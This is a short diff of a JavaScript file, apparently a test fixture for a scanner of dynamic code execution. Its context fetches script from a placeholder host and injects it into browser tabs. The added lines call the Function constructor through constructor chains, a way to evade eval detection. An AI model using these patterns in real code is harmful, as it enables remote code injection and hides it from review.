@@ -15,3 +15,6 @@ fetch('https://example.com/code.js')
   .then((code) => chrome.tabs.executeScript({ code }));
 
 console.log(root, track);
+
+// `Function` by another name.
+console.log([].map.constructor.constructor('return 1')(), (() => {})['constructor']['constructor']('return 2')());
